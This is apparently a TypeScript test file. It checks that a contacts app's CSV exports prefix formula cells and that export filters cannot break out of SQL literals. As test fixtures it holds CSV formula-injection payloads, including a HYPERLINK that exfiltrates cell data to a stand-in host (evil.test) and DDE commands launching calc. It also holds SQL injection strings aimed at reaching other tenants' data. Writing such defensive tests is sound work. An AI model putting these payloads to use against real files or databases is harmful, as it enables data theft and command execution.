import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { importErrorsCsv } from "@/components/contacts/import/import-errors-csv";
import { csvCell } from "@/lib/domain/csv";
import { execute } from "@/lib/api/route";
import { exportContactsOperation } from "@/lib/api/operations/contact-data";
import { createTestOrg } from "@/lib/testing/api";

// Trust, second pass: the import-errors CSV the dashboard offers for download kept cells as the file
// had them, so a contact list with `=HYPERLINK("http://evil.test/…")` in its email column became a
// formula in the spreadsheet of whoever opened the errors. Cells starting with = + - @ or a tab are
// prefixed with ' (decisions.md, for every export).
const HOSTILE = [
  '=HYPERLINK("http://evil.test/steal?d="&A1,"Fix")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "=1+1\nsecond line",
];

describe("CSV exports", () => {
  it("neutralise formula cells in the import-errors download", async () => {
    const org = await createTestOrg();
    const csv = Papa.unparse({ fields: ["Email"], data: [["ok@example.test"], ...HOSTILE.map((value) => [value])] });
    const result = await org.owner.api.post("/v1/contacts/import", {
      file_content: Buffer.from(csv).toString("base64"),
      column_mappings: [{ csv_column: "Email", property_name: "email" }],
      handle_missing: "create",
    });
    expect(result.status).toBe(200);
    expect(result.body.errors).toHaveLength(HOSTILE.length);

    const download = Papa.parse<string[]>(importErrorsCsv(result.body.errors), { skipEmptyLines: true }).data;
    expect(download[0]).toEqual(["row", "email", "error"]);
    // The answer echoes each cell (trimmed); the download makes each one text with a leading '.
    const echoed: string[] = result.body.errors.map((e: { email: string }) => e.email);
    for (const email of echoed) expect(email).toMatch(/^[=+\-@]/);
    expect(download.slice(1).map((row) => row[1])).toEqual(echoed.map((email) => `'${email}`));
    for (const row of download.slice(1)) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  // The contacts export is written by PostgreSQL (COPY … TO STDOUT), which takes no parameters: the
  // list's filter values are written into the statement as literals, and its cells neutralised in SQL.
  it("neutralise formula cells in the contacts export, whose filter values cannot leave their literals", async () => {
    const org = await createTestOrg();
    const other = await createTestOrg();
    await other.owner.api.post("/v1/contacts", { email: "other-tenant@example.test", first_name: "x" });
    await org.owner.api.post("/v1/contacts/bulk", {
      contacts: HOSTILE.map((value, i) => ({ email: `hostile-${i}@example.test`, first_name: value, last_name: value.slice(0, 20), tags: ["x"] })),
    });
    const exportCsv = async (query: string) => {
      const response = await execute(
        exportContactsOperation,
        new Request(`http://localhost/v1/contacts/export${query}`, { headers: { authorization: `Bearer ${org.owner.token}` } }),
      );
      return Papa.parse<Record<string, string>>(await response.text(), { header: true, skipEmptyLines: true }).data;
    };
    const all = await exportCsv("");
    expect(all).toHaveLength(HOSTILE.length);
    for (const row of all) for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(all.map((row) => row.first_name).sort()).toEqual(HOSTILE.map((value) => `'${value}`).sort());
    // Values that would end a literal, or an E'' literal's backslash, and widen the statement to every tenant.
    for (const value of ["x' OR true OR '", "x\\' OR true --", "x'); SELECT 1; --", "\\x27 OR true"]) {
      const filter = encodeURIComponent(JSON.stringify({ field: "first_name", op: "eq", value }));
      expect(await exportCsv(`?filter=${filter}`), value).toEqual([]);
      expect(await exportCsv(`?search=${encodeURIComponent(value)}`), value).toEqual([]);
    }
  });

  it("neutralise every formula start, in one function any export can use", () => {
    for (const value of ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=1\n2"]) expect(csvCell(value)).toBe(`'${value}`);
    for (const value of ["ada@example.test", "1", "", " =1", "a=b"]) expect(csvCell(value)).toBe(value);
    expect([csvCell(42), csvCell(null), csvCell(undefined), csvCell(-3)]).toEqual(["42", "", "", "-3"]);
  });
});
